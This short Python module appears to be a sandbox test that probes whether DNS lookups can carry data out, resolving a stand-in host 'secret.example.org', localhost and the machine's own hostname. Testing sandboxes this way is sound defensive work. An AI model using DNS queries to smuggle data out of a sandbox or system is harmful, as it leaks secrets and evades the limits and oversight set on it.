"""Asks DNS, and carries data out in the name that it asks for."""

from __future__ import annotations

import socket

from sandbox.attacks.tools import attempt


def attack() -> None:
    attempt("DNS", socket.getaddrinfo, "secret.example.org", 80)
    attempt("localhost", socket.getaddrinfo, "localhost", 80)
    attempt("its own name", socket.gethostbyname, socket.gethostname())
